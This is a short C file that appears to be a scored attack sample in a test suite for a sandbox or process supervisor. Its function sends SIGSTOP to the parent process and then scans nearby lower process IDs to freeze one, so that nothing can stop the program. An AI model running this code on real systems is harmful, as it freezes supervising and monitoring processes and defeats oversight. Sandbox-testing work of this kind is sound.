/* expect: points=20 */
/* SPDX-License-Identifier: MIT */
#include "attack.h"
#include "gaussian.h"

/* Stops whoever started it, so that nobody ends it. */

static int attack(void)
{
    kill(getppid(), SIGSTOP);
    for (pid_t pid = getpid() - 1; pid > 1 && pid > getpid() - 64; pid--)
        if (kill(pid, SIGSTOP) == 0)
            return 1;
    return 0;
}

#include "either.c"
